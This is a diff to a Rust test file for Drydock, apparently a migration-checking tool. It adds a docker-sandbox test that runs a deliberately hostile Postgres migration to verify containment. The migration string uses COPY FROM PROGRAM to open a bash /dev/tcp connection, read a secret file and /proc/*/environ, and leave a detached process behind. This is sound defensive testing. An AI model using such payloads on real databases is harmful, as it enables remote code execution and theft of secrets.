@@ -2087,7 +2087,12 @@ fn the_local_sandbox_holds_against_a_hostile_migration() {
         missing("root (the local sandbox needs it; CI runs as root)");
         return;
     }
-    hostile_migration_is_held(None, "sandbox: own pid, network and mount namespaces;");
+    hostile_migration_is_held(
+        &["--postgres", "local"],
+        "127.0.0.1",
+        None,
+        "sandbox: own pid, network and mount namespaces;",
+    );
 }
 
 /// The same, with Drydock run as an ordinary user (a GitHub-hosted runner's `runner`, a
@@ -2104,18 +2109,53 @@ fn the_local_sandbox_holds_when_drydock_is_not_root() {
         return;
     }
     hostile_migration_is_held(
+        &["--postgres", "local"],
+        "127.0.0.1",
         Some((65534, 65534)),
         "in a user namespace of its own (unprivileged)",
     );
 }
 
-/// Runs the hostile migration through `drydock check` (as `user` when given) and asserts that
-/// the provider's description says `sandbox` and that nothing got out.
-fn hostile_migration_is_held(user: Option<(u32, u32)>, sandbox: &str) {
+/// The same through the docker provider: the container has no network (Drydock reaches its
+/// socket through a private directory), so it cannot call the host on Docker's bridge, and
+/// nothing of the checkout is mounted. Fails with the default network.
+#[test]
+fn the_docker_sandbox_holds_against_a_hostile_migration() {
+    let Some(image) = docker_image() else { return };
+    let gateway = Command::new("docker")
+        .args([
+            "network",
+            "inspect",
+            "bridge",
+            "--format",
+            "{{(index .IPAM.Config 0).Gateway}}",
+        ])
+        .output()
+        .unwrap();
+    let gateway = String::from_utf8_lossy(&gateway.stdout).trim().to_string();
+    assert!(!gateway.is_empty(), "Docker's bridge has a gateway");
+    hostile_migration_is_held(
+        &["--postgres", "docker", "--postgres-image", &image],
+        &gateway,
+        None,
+        "sandbox: no network",
+    );
+    assert_eq!(containers_left(), Vec::<String>::new());
+}
+
+/// Runs the hostile migration through `drydock check` with `provider` (as `user` when given),
+/// calling the host at `host`, and asserts that the provider's description says `sandbox` and
+/// that nothing got out.
+fn hostile_migration_is_held(
+    provider: &[&str],
+    host: &str,
+    user: Option<(u32, u32)>,
+    sandbox: &str,
+) {
     use std::os::unix::fs::PermissionsExt;
-    // Its own duration per caller: the two tests run at the same time.
-    let sleep = 6011 + user.map_or(0, |(uid, _)| uid);
-    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    // Its own duration per caller: the tests run at the same time.
+    let sleep = 6011 + user.map_or(0, |(uid, _)| uid) + u32::from(host != "127.0.0.1");
+    let listener = std::net::TcpListener::bind("0.0.0.0:0").unwrap();
     listener.set_nonblocking(true).unwrap();
     let port = listener.local_addr().unwrap().port();
     let t = repo_with(&[]);
@@ -2124,7 +2164,7 @@ fn hostile_migration_is_held(user: Option<(u32, u32)>, sandbox: &str) {
     let checkout = t.path().canonicalize().unwrap();
     let migration = format!(
         "CREATE TABLE leak (line text);
-COPY leak FROM PROGRAM 'bash -c \"(exec 3<>/dev/tcp/127.0.0.1/{port}) 2>/dev/null && echo connected || echo no-network\"';
+COPY leak FROM PROGRAM 'bash -c \"(exec 3<>/dev/tcp/{host}/{port}) 2>/dev/null && echo connected || echo no-network\"';
 COPY leak FROM PROGRAM 'cat {checkout}/secret.txt 2>&1; cat /proc/*/environ 2>/dev/null | tr ''\\000'' ''\\n''';
 COPY (SELECT 1) TO PROGRAM 'cat >/dev/null; setsid sleep {sleep} >/dev/null 2>&1 < /dev/null &';
 DO $$ BEGIN INSERT INTO leak VALUES (pg_read_file('{checkout}/secret.txt'));
@@ -2149,14 +2189,7 @@ DO $$ BEGIN RAISE EXCEPTION 'leak: %', (SELECT string_agg(line, ' | ') FROM leak
         }
     }
     let out = drydock_within_as(
-        &[
-            "check",
-            "migrations",
-            "--format",
-            "json",
-            "--postgres",
-            "local",
-        ],
+        &[&["check", "migrations", "--format", "json"], provider].concat(),
         t.path(),
         &[("DRYDOCK_TEST_CANARY", "env_canary_2718")],
         Duration::from_secs(120),
